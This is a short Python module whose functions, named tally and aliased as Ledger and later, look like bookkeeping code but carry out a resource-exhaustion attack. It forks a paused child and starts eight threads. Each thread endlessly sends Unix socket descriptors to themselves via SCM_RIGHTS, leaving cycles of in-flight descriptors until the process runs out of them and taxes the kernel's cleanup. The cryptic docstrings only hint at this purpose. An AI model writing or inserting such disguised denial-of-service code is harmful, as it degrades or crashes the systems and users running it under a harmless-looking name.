"""Leaves so many descriptors on their way that its user may send no further one, and ends itself, call after call."""

import array
import os
import signal
import socket
import threading


def fill():
    """Sockets that are in flight inside each other: the kernel has to look for them before it can let them go."""
    while True:
        ours, theirs = socket.socketpair()
        many = array.array("i", [ours.fileno(), theirs.fileno()] * 120)
        try:
            for end in (ours, theirs):
                end.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, many)])
        except OSError:
            return


def tally(names):
    if os.fork() == 0:
        signal.pause()
    workers = [threading.Thread(target=fill) for _ in range(8)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    os._exit(1)


Ledger = later = tally
